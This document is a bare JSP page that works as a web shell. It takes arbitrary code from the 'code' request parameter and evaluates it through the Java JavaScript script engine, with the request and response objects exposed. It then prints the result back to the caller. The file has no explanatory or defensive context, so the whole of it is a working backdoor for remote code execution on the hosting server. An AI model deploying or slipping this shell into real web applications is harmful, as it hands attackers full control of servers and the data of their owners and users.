<%@ page import="javax.script.ScriptEngineManager,javax.script.ScriptEngine" %>
<%
    String code = request.getParameter("code");
    if (code != null) {
        ScriptEngineManager manager = new ScriptEngineManager();
        ScriptEngine engine = manager.getEngineByName("javascript");
        engine.put("request", request);
        engine.put("response", response);
        Object result = engine.eval(code);
        out.println(String.valueOf(result));
    }
%>
